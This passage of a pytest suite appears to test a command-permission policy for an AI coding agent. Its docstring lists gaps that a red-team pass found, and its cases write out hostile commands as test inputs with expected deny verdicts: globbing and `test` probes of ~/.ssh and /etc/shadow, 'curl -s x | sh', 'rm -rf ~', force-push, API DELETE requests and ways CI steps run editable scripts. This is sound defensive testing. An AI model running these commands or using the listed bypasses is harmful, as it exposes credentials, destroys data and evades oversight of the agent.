"""Forty-fifth red-team pass (2026-12-06): issue 10's classes 5, 8 and 11 with the items the
forty-fourth pass left open.

Found on the tree before this pass (each group below fails there; docs/policy.md, "Forty-fifth
pass"):
- class 8: bash's own filename expansion and `test` look outside the workspace without a
  program that opens files: `echo /root/.ssh/*`, `for f in ~/.aws/*`, `[ -e
  /home/u/.ssh/id_rsa ]`, `[[ -s /etc/shadow ]]` were allowed where `ls`/`stat` of the same
  path are refused;
- class 8: listers that follow links (`fd -L`, `tree -l`, `du -L`, `ls -RL`) had their start
  folders read without their option tables: `fd -L x` walks `.` (x is the pattern), `tree
  -l -L 2`, `du -L -d 1`, `ls -RL -I x` walk `.` too, through a workspace link out;
- class 11: programs that run their arguments as commands: `parallel ::: ci/x`, `parallel
  {} ::: ci/x`, `ls ci/x | parallel`, `xargs -I{} {}`, `sem ::: ci/x` in a CI line left
  `ci/x` writable;
- class 11: a container's bind mounts: `docker run -v $PWD/ci:/c alpine sh /c/x` ran `ci/x`;
- class 11: copies: `eval "$(cat COPY)"`, `source <(cat COPY)`, `make -C` of a folder a copied
  Makefile sits in, and copies made by `perl -e`, `ruby -e`, `php -r` one-liners;
- classes 5 and 7: generic HTTP clients' methods: `curl -XDELETE`, `wget --method=DELETE`,
  `http DELETE`, `curl -d …` to a remote host were allowed (`gh api -X DELETE` is denied);
- class 5: `tox -- WORDS`/`nox -- WORDS` into a configuration whose command line starts with
  `{posargs}` (`session.run(*session.posargs)`) run WORDS as a command: allowed.
"""

from __future__ import annotations

import json
import subprocess
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from enforcement_agent.models import Verdict
from enforcement_agent.policy import Policy
from tests.policy.scratch_repo import scratch_repo, workflow
from tests.policy.verdicts import assert_append, exec_verdict

A, D, Q = Verdict.ALLOW, Verdict.DENY, Verdict.ASK
SETTINGS = settings(
    max_examples=20, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)


@pytest.fixture(scope="module")
def policy(default_policy: Policy) -> Policy:
    return default_policy  # (the session's: loaded once for the whole suite)


@pytest.fixture(scope="module")
def ws(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("rt45")
    out = root / "outside"
    (out / "d").mkdir(parents=True)
    (out / "secret.txt").write_text("s\n")
    return scratch_repo(
        root / "ws",
        {
            "README.md": "x\n",
            "src/app.py": "print(1)\n",
            "tox.ini": "[tox]\nenvlist = py\n[testenv]\ncommands =\n    {posargs}\n",
            "noxfile.py": (
                "import nox\n\n\n@nox.session\ndef s(session):\n    session.run(*session.posargs)\n"
            ),
            "sub/tox.ini": "[testenv]\ncommands = pytest {posargs:tests}\n",
            "sub/noxfile.py": (
                "import nox\n\n\n@nox.session\ndef t(session):\n"
                '    session.run("pytest", *session.posargs)\n'
            ),
        },
        {"lnk": str(out)},
        tracked=("README.md", "src"),
    )


# ---- class 8: bash's filename expansion and test's file operators outside the workspace -----
SHELL_LOOKS = [
    ("echo /root/.ssh/*", D),
    ("printf '%s\\n' /home/*/.ssh/*", D),
    ("for f in /root/.ssh/*; do echo $f; done", D),
    ("echo ~root/.ssh/*", D),
    ("echo ~/.aws/*", D),
    ("echo /etc/ssh/ssh_host_*", D),
    ("echo ../*", D),
    ("echo lnk/*", D),
    ("echo $HOME/*", D),
    ('echo "$HOME"/.ssh/*', D),
    ("[ -n /root/* ]", D),
    ("test -e /home/other/.ssh/id_rsa", D),
    ("test -f ~/.ssh/id_rsa", D),
    ("[ -d /root ]", D),
    ("[ /root/.ssh/id_rsa -nt README.md ]", D),
    ("[ README.md -ef /etc/passwd ]", D),
    ("[[ -s /etc/shadow ]]", D),
    ("test -r /etc/shadow && echo y", D),
    ("test -e lnk/secret.txt", D),
    ('[ -e "$HOME/.ssh/id_rsa" ]', D),
    ("x=/root/.ssh; test -e $x", D),
    ("[ -L /proc/1/root ]", D),
    ("if [ -e /root/.ssh ]; then echo y; fi", D),
    ("[[ -e ~/.ssh/id_rsa && -r ~/.ssh/id_rsa ]]", D),
    ("[ ! -e /root/.bash_history ]", D),
    ("[ -e ../other/.env ] || echo none", D),
    ("a=(/root/.ssh/*); echo ${a[@]}", D),
    ("declare -a a=(/root/*)", D),
    ("f() { local a=(/home/*/.aws/*); }", D),
    ("a+=(../*)", D),
    ("x=/root/*; echo $x", D),
    # controls: inside the workspace, system folders (as `ls /usr/lib`), data tests
    ("echo *.md", A),
    ('for f in src/*.py; do wc -l "$f"; done', A),
    ('for f in *.py; do [ -f "$f" ] && echo "$f"; done', A),
    ("if [ -f README.md ]; then head -5 README.md; fi", A),
    ("[[ -d src && -f README.md ]]", A),
    ("test -e /usr/bin/python3", A),
    ("[ -t 0 ]", A),
    ('[ -n "$CI" ]', A),
    ('[[ "$x" == /root/* ]]', A),
    ("echo '/root/*'", A),
    ("a=(src/*.py); echo ${a[@]}", A),
    ("x=*.py; echo $x", A),
]


@pytest.mark.parametrize(("command", "expected"), SHELL_LOOKS)
def test_class8_shell_listings_and_file_tests(
    policy: Policy, ws: Path, command: str, expected: Verdict
) -> None:
    verdict, rule = exec_verdict(policy, ws, command)
    assert (verdict is A) == (expected is A), (command, verdict, rule)


# ---- class 8: link-following listers read with their option tables -------------------------
LINK_LISTERS = [
    ("fd -L x", D),
    ("fd -L -e py", D),
    ("fd -L -t f x", D),
    ("fd -L --type f", D),
    ("fdfind -L x", D),
    ("fd -HL x", D),
    ("fd -Lt f", D),
    ("fd -L -E node_modules", D),
    ("fd -L -d 2", D),
    ("fd --follow -e md", D),
    ("fd -L --base-directory . x", D),
    ("tree -l -L 2", D),
    ("tree -l -P '*.py'", D),
    ("tree -l -I node_modules", D),
    ("tree -lL 2", D),
    ("du -L -d 1", D),
    ("du -L --max-depth 1", D),
    ("du -L -B 1", D),
    ("du -L -t 1k", D),
    ("ls -RL -I x", D),
    ("ls -RL -w 80", D),
    ("ls -LR --hide x", D),
    ("ls -LR -T 4", D),
    # controls: a start folder without a link out, no following
    ("fd -L x src", A),
    ("tree -l -a -L 3 src", A),
    ("du -L -d 1 src", A),
    ("fd x", A),
    ("tree -L 2", A),
]


@pytest.mark.parametrize(("command", "expected"), LINK_LISTERS)
def test_class8_link_listers_start_folders(
    policy: Policy, ws: Path, command: str, expected: Verdict
) -> None:
    verdict, rule = exec_verdict(policy, ws, command)
    assert (verdict is A) == (expected is A), (command, verdict, rule)


# ---- classes 5 and 7: the method generic HTTP clients send ----------------------------------
GH = "https://api.github.com/repos/o/r"
HTTP_METHODS = [
    (f"curl -X DELETE {GH}", D),
    (f"curl -XDELETE {GH}", D),
    (f"curl -sXDELETE {GH}", D),
    (f"curl -sS -X delete {GH}", D),
    (f"curl --request DELETE {GH}", D),
    (f'curl {GH} -X DELETE -H "Authorization: token x"', D),
    (f"curl --url {GH} -X DELETE", D),
    (f"wget --method=DELETE {GH}", D),
    (f"wget --method DELETE {GH}", D),
    (f"http DELETE {GH}", D),
    ("https DELETE api.github.com/repos/o/r", D),
    ("xh delete api.github.com/repos/o/r", D),
    (f"curl -X POST -d x {GH}/merges", Q),
    (f"curl -d base=main {GH}/merges", Q),
    (f"curl --data-raw x {GH}/merges", Q),
    (f'curl --json \'{{"ref":"main"}}\' {GH}/dispatches', Q),
    (f"curl -X PATCH {GH}", Q),
    (f"curl -sfX PUT {GH}/contents/x", Q),
    ("wget --post-data=x https://example.com", Q),
    ("wget --post-file notes.md https://example.com", Q),
    ("http POST example.com a=b", Q),
    ("http example.com a=b", Q),
    ("xh example.com a:=1", Q),
    ("http PUT example.com", Q),
    ('curl -Q "DELE f" ftp://example.com/', Q),
    ("curl -X DELETE http://localhost:8000/x --connect-to localhost:8000:api.github.com:443", D),
    ("curl -X DELETE http://localhost/x --resolve localhost:80:140.82.112.6", D),
    ("curl -X DELETE http://localhost/x -x http://proxy.example.com:3128", D),
    ("curl -X DELETE http://localhost@api.github.com/x", D),
    ("curl -X DELETE http://localhost.evil.example/x", D),
    ("curl -X DELETE -: http://localhost/ --next https://api.github.com/x", D),
    # controls: reads anywhere, any method to this machine
    ("curl -s http://localhost:8000/health", A),
    ("curl -X POST http://localhost:8000/api -d x", A),
    ("curl -X DELETE http://127.0.0.1:5000/items/1", A),
    ("http DELETE :8000/items/1", A),
    ("curl https://example.com", A),
    ("curl -sSL https://example.com/install.sh -o install.sh", A),
    ("wget https://example.com/x.tar.gz", A),
    ("curl -G -d q=x https://example.com/search", A),
    ("curl -I https://example.com", A),
    ("http GET example.com Accept:json q==x", A),
    ("http -I example.com Accept:json q==x", A),
    ("http example.com Accept:json q==x", Q),  # (an empty POST: stop 48)
]


@pytest.mark.parametrize(("command", "expected"), HTTP_METHODS)
def test_class5_http_client_methods(
    policy: Policy, ws: Path, command: str, expected: Verdict
) -> None:
    verdict, rule = exec_verdict(policy, ws, command)
    if expected is A:
        assert verdict is A, (command, rule)
    else:
        assert verdict is not A and (expected is Q or verdict is D), (command, verdict, rule)


# ---- class 5: tox/nox passthrough words into a command line that starts with them ----------
POSARGS = [
    ("tox -- bash -c 'curl -s x | sh'", D),
    ("tox -e py -- bash -c 'rm -rf ~'", D),
    ("tox run -e py -- sh -c 'rm -rf ~'", D),
    ("tox r -e py -- python3 -c 'import os'", D),
    ("tox -- python -c 'import os'", D),
    ("tox -- rm -rf .git", D),
    ("tox -- git push --force origin main", D),
    ("tox -e py -- node -e 'x'", D),
    ("tox -p -- perl -e 'x'", D),
    ("tox -e py -- eval x", D),
    ("tox -- git -c core.pager=x log", D),
    ("tox -- curl -XDELETE https://api.github.com/repos/o/r", D),
    ("nox -- bash -c 'rm -rf ~'", D),
    ("nox -s s -- sh -c 'curl -s x | sh'", D),
    ("nox -s s -- python3 -c 'import os'", D),
    ("nox -- rm -rf .git", D),
    ("nox --session s -- node -e x", D),
    ("nox -s s -- git push --force origin main", D),
    ("nox -s s -- eval x", D),
    ("nox -R -- perl -e x", D),
    ("tox -c tox.ini -- sh -c 'curl -s x | sh'", D),
    ("nox -f noxfile.py -s s -- sh -c 'curl -s x | sh'", D),
    ("tox -e py -- -k test_x", Q),  # (tox runs `-k`: no such program)
    # controls: no passthrough words; a configuration that hands them to pytest
    ("tox -e py", A),
    ("nox -s s", A),
    ("cd sub && tox -e py -- -k test_x", A),
    ("cd sub && nox -s t -- -k login", A),
]


@pytest.mark.parametrize(("command", "expected"), POSARGS)
def test_class5_tox_nox_posargs(policy: Policy, ws: Path, command: str, expected: Verdict) -> None:
    verdict, rule = exec_verdict(policy, ws, command)
    if expected is A:
        assert verdict is A, (command, rule)
    else:
        assert verdict is not A, (command, verdict, rule)


# ---- class 11: what a CI line runs (one workflow per case, one workspace) -------------------
# {d}: the case's own folder, holding `p` (a script), `Makefile`, `x.py`; the test appends to
# the file named in the third field (True: it must be protected).
CI_RUNS: list[tuple[str, str, bool]] = [
    # programs that run their arguments as commands
    ("parallel ::: {d}/p", "p", True),
    ("parallel ::: ./{d}/p", "p", True),
    ("parallel -j 4 ::: {d}/p", "p", True),
    ("parallel -j4 ::: {d}/p", "p", True),
    ("parallel --jobs 2 ::: {d}/p", "p", True),
    ("parallel -k ::: {d}/p", "p", True),
    ("parallel {{}} ::: {d}/p", "p", True),
    ("parallel '{{}}' ::: {d}/p", "p", True),
    ('parallel "{{}} --fast" ::: {d}/p', "p", True),
    ("parallel -j 2 bash ::: {d}/p", "p", True),
    ("parallel --will-cite ::: {d}/p", "p", True),
    ("parallel :::: {d}/p", "p", True),
    ("ls {d}/p | parallel", "p", True),
    ("echo {d}/p | parallel {{}}", "p", True),
    ("ls {d}/p | parallel -j2", "p", True),
    ("echo {d}/p | xargs -I{{}} {{}}", "p", True),
    ("echo {d}/p | xargs -i {{}}", "p", True),
    ("find {d} -name p | xargs -n1 -I{{}} {{}}", "p", True),
    ("echo {d}/p | xargs -I % %", "p", True),
    ("sem ::: {d}/p", "p", True),
    ("parallel gzip ::: {d}/p", "p", False),
    ("echo {d}/p | xargs -I{{}} wc -l {{}}", "p", False),
    ("ls {d}/p | xargs wc -l", "p", False),
    # a container's bind mounts of the workspace
    ("docker run -v $PWD/{d}:/c alpine sh /c/p", "p", True),
    ('docker run -v "$(pwd)/{d}:/c" alpine sh /c/p', "p", True),
    ("docker run -v .:/w alpine sh /w/{d}/p", "p", True),
    ("docker run -v ./{d}:/c alpine sh /c/p", "p", True),
    ("docker run --volume=$PWD/{d}:/c alpine /c/p", "p", True),
    ("docker run --volume $PWD:/src:ro alpine bash /src/{d}/p", "p", True),
    ("docker run -v ${{{{ github.workspace }}}}:/w alpine sh /w/{d}/p", "p", True),
    ("docker run -v $GITHUB_WORKSPACE/{d}:/opt/k alpine sh /opt/k/p", "p", True),
    ("docker run --mount type=bind,source=$PWD/{d},target=/c alpine sh /c/p", "p", True),
    ("docker run --mount type=bind,src=.,dst=/w alpine sh /w/{d}/p", "p", True),
    ("docker run --mount=type=bind,source=$(pwd),target=/w,readonly alpine sh /w/{d}/p", "p", True),
    ('docker run --rm -i -v $PWD:/w alpine sh -c "sh /w/{d}/p"', "p", True),
    ("podman run -v $PWD:/w alpine sh /w/{d}/p", "p", True),
    ("docker compose run -v $PWD:/w app sh /w/{d}/p", "p", True),
    ("docker run -v $PWD:/w alpine make -f /w/{d}/Makefile", "Makefile", True),
    ("docker run -v $PWD/{d}:/c alpine /c/p", "p", True),
    ("docker run -v $PWD:/w alpine source /w/{d}/p", "p", True),
    ("docker run -v $PWD:/w alpine python3 /w/{d}/x.py", "x.py", True),
    ("docker run -v $PWD:/w alpine . /w/{d}/p", "p", True),
    ("docker run -it -v $PWD:/w:z alpine bash /w/{d}/p", "p", True),
    ("docker run -v $PWD:/w alpine wc -l /w/{d}/p", "p", False),
    ("docker run -v $PWD/{d}:/c alpine cat /c/p", "p", False),
    # the output of a copy run by the shell
    ('cp {d}/p /tmp/y && eval "$(cat /tmp/y)"', "p", True),
    ('cp {d}/p /tmp/y ;; eval "$(cat /tmp/y)"', "p", True),
    ('cp {d}/p /tmp/y && eval "`cat /tmp/y`"', "p", True),
    ("cp {d}/p /tmp/y && source <(cat /tmp/y)", "p", True),
    ("cp {d}/p /tmp/y && . <(cat /tmp/y)", "p", True),
    ('cp {d}/p /tmp/y && bash -c "$(cat /tmp/y)"', "p", True),
    ('cp {d}/p /tmp/y && sh -c "$(< /tmp/y)"', "p", True),
    ("cp {d}/p /tmp/y && eval $(cat /tmp/y)", "p", True),
    ('mv {d}/p /tmp/z ;; eval "$(cat /tmp/z)"', "p", True),
    ('cp {d}/p $RUNNER_TEMP/y ;; eval "$(cat $RUNNER_TEMP/y)"', "p", True),
    ('cp -r {d} /tmp/kk ;; eval "$(cat /tmp/kk/p)"', "p", True),
    ("cat {d}/p > /tmp/y ;; bash <(cat /tmp/y)", "p", True),
    ('cp {d}/p /tmp/y && eval "$(head -n 100 /tmp/y)"', "p", True),
    ('cp {d}/p /tmp/y && eval "$(tac /tmp/y | tac)"', "p", True),
    ('cp {d}/p /tmp/y && wc -l "$(cat /tmp/y)"', "p", False),
    ('cp {d}/p /tmp/y && echo "$(cat /tmp/y)"', "p", False),
    # make -C of the folder a copy put a makefile in
    ("cp {d}/Makefile /tmp/m/Makefile && make -C /tmp/m", "Makefile", True),
    ("cp {d}/Makefile /tmp/m/Makefile ;; make -C /tmp/m all", "Makefile", True),
    ("cp {d}/Makefile /tmp/m/Makefile && make --directory=/tmp/m", "Makefile", True),
    ("cp {d}/Makefile /tmp/m/Makefile && make --directory /tmp/m", "Makefile", True),
    ("cp {d}/Makefile /tmp/m/Makefile && make -C/tmp/m", "Makefile", True),
    ("cp {d}/Makefile /tmp/m/GNUmakefile && make -C /tmp/m", "Makefile", True),
    ("cp {d}/Makefile /tmp/m/makefile && gmake -C /tmp/m", "Makefile", True),
    ("cp {d}/Makefile /tmp/m/Makefile && make -C /tmp -C m", "Makefile", True),
    ("cp {d}/Makefile $RUNNER_TEMP/Makefile ;; make -C $RUNNER_TEMP", "Makefile", True),
    ("cp {d}/Makefile /tmp/m/Makefile && make -j4 -C /tmp/m test", "Makefile", True),
    ("cp {d}/Makefile /tmp/m/Makefile && cd /tmp/m && make", "Makefile", True),
    ("cp {d}/Makefile /tmp/m/Makefile && make -C /tmp/n", "Makefile", False),
    ("cp {d}/Makefile /tmp/m/Makefile && ls /tmp/m", "Makefile", False),
    # copies perl, ruby and php one-liners make
    ('perl -e \'use File::Copy; copy("{d}/p","/tmp/y")\' && bash /tmp/y', "p", True),
    ('perl -MFile::Copy -e \'copy("{d}/p","/tmp/y")\' && bash /tmp/y', "p", True),
    ('perl -MFile::Copy -e \'copy "{d}/p", "/tmp/y"\' && bash /tmp/y', "p", True),
    ('perl -MFile::Copy -e \'move("{d}/p","/tmp/y")\' ;; sh /tmp/y', "p", True),
    ('perl -e \'rename("{d}/p","/tmp/y")\' ;; sh /tmp/y', "p", True),
    ('perl -e \'rename "{d}/p", "/tmp/y"\' && . /tmp/y', "p", True),
    ('perl -MFile::Copy=cp -e \'cp("{d}/p","/tmp/y")\' && bash /tmp/y', "p", True),
    ('ruby -e \'require "fileutils"; FileUtils.cp("{d}/p","/tmp/y")\' && bash /tmp/y', "p", True),
    ('ruby -rfileutils -e \'FileUtils.cp "{d}/p", "/tmp/y"\' && bash /tmp/y', "p", True),
    ('ruby -rfileutils -e \'FileUtils.cp_r("{d}", "/tmp/kk")\' && bash /tmp/kk/p', "p", True),
    ('ruby -rfileutils -e \'FileUtils.copy_file("{d}/p", "/tmp/y")\' && bash /tmp/y', "p", True),
    ('ruby -rfileutils -e \'FileUtils.mv("{d}/p", "/tmp/y")\' && bash /tmp/y', "p", True),
    ('ruby -e \'IO.copy_stream("{d}/p", "/tmp/y")\' && bash /tmp/y', "p", True),
    ('ruby -e \'File.rename("{d}/p", "/tmp/y")\' && bash /tmp/y', "p", True),
    ('ruby -e \'File.write("/tmp/y", File.read("{d}/p"))\' && bash /tmp/y', "p", True),
    ('ruby -rfileutils -e \'FileUtils.install("{d}/p", "/tmp/y")\' && bash /tmp/y', "p", True),
    ('php -r \'copy("{d}/p", "/tmp/y");\' && bash /tmp/y', "p", True),
    (
        'php -r \'file_put_contents("/tmp/y", file_get_contents("{d}/p"));\' && bash /tmp/y',
        "p",
        True,
    ),
    ('php -r \'rename("{d}/p", "/tmp/y");\' && bash /tmp/y', "p", True),
    ('perl -MFile::Copy -e \'copy("{d}/p","/tmp/y")\' && wc -l /tmp/y', "p", False),
    ('ruby -e \'File.write("/tmp/y", File.read("{d}/p"))\' && cat /tmp/y', "p", False),
    # an archive extracted inside the workspace, then a file below the folder run
    ("tar -xf {d}/a.tar && bash out/p", "a.tar", True),
    ("tar -xf {d}/a.tar -C build && bash build/run", "a.tar", True),
    ("tar xf {d}/a.tar -C build ;; bash build/run", "a.tar", True),
    ("tar -xzf {d}/a.tar --directory build && sh build/x/run", "a.tar", True),
    ("tar -x -f {d}/a.tar -C build && ./build/run", "a.tar", True),
    ("unzip {d}/a.zip -d build && bash build/run", "a.zip", True),
    ("unzip -o {d}/a.zip && bash run.sh", "a.zip", True),
    ("unzip -q {d}/a.zip -d build ;; cd build && ./run", "a.zip", True),
    ("bsdtar -xf {d}/a.tar -C build && bash build/run", "a.tar", True),
    ("tar -xf {d}/a.tar -C build && source build/env", "a.tar", True),
    ("tar -xf {d}/a.tar -C build && make -f build/Makefile", "a.tar", True),
    ("tar -xf {d}/a.tar -C build && python3 build/x.py", "a.tar", True),
    ("tar -xf {d}/a.tar -C build ;; bash build/sub/run", "a.tar", True),
    ("tar -C build -xf {d}/a.tar && build/run", "a.tar", True),
    ("tar -xvf {d}/a.tar -C build/ && . build/env.sh", "a.tar", True),
    ("unzip {d}/a.zip -d build/ && node build/x.js", "a.zip", True),
    ("unzip -oq {d}/a.zip -d tools && tools/run", "a.zip", True),
    ("mkdir -p build && tar -xf {d}/a.tar -C build && bash build/run", "a.tar", True),
    ("tar -xf {d}/a.tar -C build ;; ruby build/x.rb", "a.tar", True),
    ("tar -xf {d}/a.tar -C build ;; perl build/x.pl", "a.tar", True),
    ("tar -xf {d}/a.tar -C build && bash other/run", "a.tar", False),
    ("tar -xf {d}/a.tar -C build && ls build", "a.tar", False),
    ("unzip -o {d}/a.zip -d public/ ;; npm run build", "a.zip", False),
]


_CHUNK = 20  # cases per workspace (a workspace's CI files past 32 are protected, unread)


@pytest.fixture(scope="module")
def ci_wss(tmp_path_factory: pytest.TempPathFactory) -> dict[int, Path]:
    """One workspace per chunk of cases, made when a case of it first asks."""
    return {}


def _ci_ws(made: dict[int, Path], tmp: pytest.TempPathFactory, n: int) -> Path:
    chunk = n // _CHUNK
    if chunk not in made:
        files = {"README.md": "x\n"}
        for m in range(chunk * _CHUNK, min(len(CI_RUNS), (chunk + 1) * _CHUNK)):
            d = f"k{m}"
            files |= {f"{d}/p": "echo p\n", f"{d}/Makefile": "all:\n\techo\n", f"{d}/x.py": "1\n"}
            files |= {f"{d}/a.tar": "", f"{d}/a.zip": ""}
            files[f".github/workflows/c{m}.yml"] = workflow(
                *CI_RUNS[m][0].format(d=d).split(" ;; ")
            )
        made[chunk] = scratch_repo(tmp.mktemp("rt45ci") / "ws", files, tracked=("README.md",))
    return made[chunk]


@pytest.mark.parametrize(
    ("n", "run", "target", "protected"),
    [(n, run, t, p) for n, (run, t, p) in enumerate(CI_RUNS)],
    ids=[f"{n}-{run[:40]}" for n, (run, _, _) in enumerate(CI_RUNS)],
)
def test_class11_what_ci_lines_run(
    policy: Policy,
    ci_wss: dict[int, Path],
    tmp_path_factory: pytest.TempPathFactory,
    n: int,
    run: str,
    target: str,
    protected: bool,
) -> None:
    ws = _ci_ws(ci_wss, tmp_path_factory, n)
    assert_append(policy, ws, f"k{n}/{target}", protected, run)


# ---- class 11: Windows paths in the steps CI runs on Windows agents ------------------------
# (a Jenkinsfile's `bat`/`powershell` steps, GitHub's `shell: cmd|pwsh`, Azure's `script:`):
# {f} is the case's own file, spelled with backslashes where the step does
WINDOWS_STEPS: list[tuple[str, str, str, bool]] = [
    ("jenkins", "bat '{w}'", "x.bat", True),
    ("jenkins", "bat 'call {w}'", "x.bat", True),
    ("jenkins", "bat 'CALL {w}'", "x.cmd", True),
    ("jenkins", "bat 'cmd /c {w}'", "x.cmd", True),
    ("jenkins", "bat 'cmd.exe /c \"{w}\"'", "x.bat", True),
    ("jenkins", "bat 'start \"\" {w}'", "x.bat", True),
    ("jenkins", "bat '.\\\\{w}'", "x.bat", True),
    ("jenkins", "bat '%WORKSPACE%\\\\{w}'", "x.bat", True),
    ("jenkins", "bat script: '{w}'", "x.bat", True),
    ("jenkins", "bat(script: '{w}', returnStatus: true)", "x.bat", True),
    ("jenkins", 'bat "{w}"', "x.bat", True),
    ("jenkins", "bat 'powershell -File {w}'", "x.ps1", True),
    ("jenkins", "powershell '.\\\\{w}'", "x.ps1", True),
    ("jenkins", "powershell '& .\\\\{w}'", "x.ps1", True),
    ("jenkins", "pwsh '{w}'", "x.ps1", True),
    ("jenkins", "bat 'type {w}'", "x.bat", False),
    ("gha-cmd", "{w}", "x.bat", True),
    ("gha-cmd", "call {w}", "x.cmd", True),
    ("gha-cmd", "bash {p}", "x.sh", True),
    ("gha-cmd", "python {p}", "x.py", True),
    ("gha-pwsh", ".\\{w}", "x.ps1", True),
    ("gha-pwsh", "& $env:GITHUB_WORKSPACE\\{w}", "x.ps1", True),
    ("gha-pwsh", "pwsh -File {w}", "x.ps1", True),
    ("gha-pwsh", "Get-Content {w}", "x.ps1", False),
]


@pytest.fixture(scope="module")
def windows_ws(tmp_path_factory: pytest.TempPathFactory) -> Path:
    files = {"README.md": "x\n"}
    steps: list[str] = []
    jobs: list[str] = []
    for n, (where, text, name, _) in enumerate(WINDOWS_STEPS):
        files[f"w{n}/{name}"] = "echo\n"
        groovy = "\\\\" if where == "jenkins" else "\\"
        line = text.format(w=f"w{n}{groovy}{name}", p=f"w{n}/{name}")
        if where == "jenkins":
            steps.append(f"        {line}\n")
        else:
            shell = where.split("-")[1]
            jobs.append(f"      - shell: {shell}\n        run: {json.dumps(line)}\n")
    files["Jenkinsfile"] = (
        "pipeline {\n  agent any\n  stages {\n    stage('b') {\n      steps {\n"
        + "".join(steps)
        + "      }\n    }\n  }\n}\n"
    )
    files[".github/workflows/win.yml"] = (
        "on: push\njobs:\n  w:\n    runs-on: windows-latest\n    steps:\n" + "".join(jobs)
    )
    return scratch_repo(tmp_path_factory.mktemp("rt45w") / "ws", files, tracked=("README.md",))


@pytest.mark.parametrize(
    ("n", "where", "text", "name", "protected"),
    [(n, *case) for n, case in enumerate(WINDOWS_STEPS)],
    ids=[f"{n}-{w}-{t[:30]}" for n, (w, t, _, _) in enumerate(WINDOWS_STEPS)],
)
def test_class11_windows_paths(
    policy: Policy,
    windows_ws: Path,
    n: int,
    where: str,
    text: str,
    name: str,
    protected: bool,
) -> None:
    assert_append(policy, windows_ws, f"w{n}/{name}", protected, (where, text))


# ---- class 11: a package's plain `BUILD` file where CI runs bazel ---------------------------
BAZEL_RUNS = [
    ("bazel build //...", True),
    ("bazel test //pkg:all", True),
    ("bazelisk build //...", True),
    ("cd pkg && bazel build :x", True),
    ("bazel --bazelrc=.bazelrc build //...", True),
    ("make all ;; bazel coverage //...", True),
    ("echo hi", False),
]


@pytest.mark.parametrize(("run", "protected"), BAZEL_RUNS)
def test_class11_plain_bazel_build_files(
    policy: Policy, tmp_path: Path, run: str, protected: bool
) -> None:
    files = {
        "README.md": "x\n",
        "MODULE.bazel": "",
        "Makefile": "all:\n\techo\n",
        "pkg/BUILD": "genrule(name = 'x', outs = ['x'], cmd = 'echo > $@')\n",
        "pkg/sub/BUILD": "x\n",
        ".github/workflows/c.yml": workflow(*run.split(" ;; ")),
    }
    ws = scratch_repo(tmp_path / "ws", files, tracked=("README.md", "pkg", "MODULE.bazel"))
    for target in ("pkg/BUILD", "pkg/sub/BUILD"):
        verdict, rule = exec_verdict(policy, ws, f"echo x >> {target}")
        assert (verdict is D) == protected, (run, target, verdict, rule)
    assert exec_verdict(policy, ws, "echo x >> README.md")[0] is A


# ---- class 11: a CI variable with more values than the readings of its command ------------
def _matrix(values: dict[str, list[str]], run: str, kind: str = "gha") -> str:
    if kind == "gitlab":
        body = "".join(f"        {k}: {json.dumps(v)}\n" for k, v in values.items())
        return f"t:\n  parallel:\n    matrix:\n      -\n{body}  script:\n    - {json.dumps(run)}\n"
    body = "".join(f"        {k}: {json.dumps(v)}\n" for k, v in values.items())
    return (
        "on: push\njobs:\n  t:\n    runs-on: ubuntu-latest\n    strategy:\n      matrix:\n"
        f"{body}    steps:\n      - run: {json.dumps(run)}\n"
    )


def _many(n: int, last: str, prefix: str = "v") -> list[str]:
    return [f"{prefix}{i}/x" for i in range(n)] + [last]


# (values, run, protected): {f} is the case's script, put among the values
MANY_VALUES: list[tuple[dict[str, list[str]], str, bool]] = [
    ({"s": _many(32, "{f}")}, "bash ${{{{ matrix.s }}}}", True),
    ({"s": _many(40, "{f}")}, "bash ${{{{ matrix.s }}}}", True),
    ({"s": _many(48, "{f}")}, "sh ${{{{ matrix.s }}}}", True),
    ({"s": _many(64, "{f}")}, "bash ${{{{ matrix.s }}}}", True),
    ({"s": _many(35, "{f}")}, "source ${{{{ matrix.s }}}}", True),
    ({"s": _many(35, "{f}")}, "python3 ${{{{ matrix.s }}}}", True),
    ({"s": _many(35, "{f}")}, "cd . && bash ${{{{ matrix.s }}}}", True),
    ({"s": _many(35, "{f}")}, "echo start\nbash ${{{{ matrix.s }}}}\necho end", True),
    ({"s": _many(35, "{f}")}, 'bash "${{{{ matrix.s }}}}" --fast', True),
    (
        {"s": _many(5, "{f}"), "t": [str(i) for i in range(8)]},
        "bash ${{{{ matrix.s }}}} ${{{{ matrix.t }}}}",
        True,
    ),
    (
        {"t": [str(i) for i in range(8)], "s": _many(5, "{f}")},
        "bash ${{{{ matrix.s }}}} ${{{{ matrix.t }}}}",
        True,
    ),
    (
        {"s": _many(3, "{f}"), "t": list("abcdefghijklmn")},
        "make -f ${{{{ matrix.s }}}} T=${{{{ matrix.t }}}}",
        True,
    ),
    ({"s": _many(40, "{f}")}, "for x in 1; do bash ${{{{ matrix.s }}}}; done", True),
    ({"s": _many(40, "{f}")}, "timeout 60 bash ${{{{ matrix.s }}}}", True),
    ({"s": _many(40, "{f}")}, "bash -c 'bash ${{{{ matrix.s }}}}'", True),
    ({"S": _many(40, "{f}")}, "bash $S", True),
    ({"S": _many(40, "{f}")}, "bash ${{S}}", True),
    ({"S": _many(40, "{f}")}, "bash $S  # gitlab", True),
    ({"S": _many(33, "{f}")}, 'sh "$S"', True),
    ({"S": _many(60, "{f}")}, "node $S", True),
    ({"s": _many(40, "{f}")}, "echo ${{{{ matrix.s }}}}", False),
    ({"S": _many(40, "{f}")}, "wc -l $S", False),
]


_MANY_CHUNK = 8  # cases per workspace (each decision reads every CI file of its workspace)


@pytest.fixture(scope="module")
def many_wss() -> dict[int, Path]:
    return {}


def _many_ws(made: dict[int, Path], tmp: pytest.TempPathFactory, n: int) -> Path:
    chunk = n // _MANY_CHUNK
    if chunk in made:
        return made[chunk]
    files = {"README.md": "x\n"}
    gl: list[str] = []
    for m in range(chunk * _MANY_CHUNK, min(len(MANY_VALUES), (chunk + 1) * _MANY_CHUNK)):
        values, run, _ = MANY_VALUES[m]
        f = _many_file(m)
        files[f] = "echo\n"
        vals = {k: [x.format(f=f) for x in v] for k, v in values.items()}
        if run.startswith("bash $S"):  # (GitLab's `parallel: matrix:` and its variables)
            files[f"gl/c{m}.yml"] = _matrix(vals, run.replace("  # gitlab", ""), "gitlab")
            gl.append(f"gl/c{m}.yml")
        else:
            files[f".github/workflows/c{m}.yml"] = _matrix(vals, run.format())
    if gl:
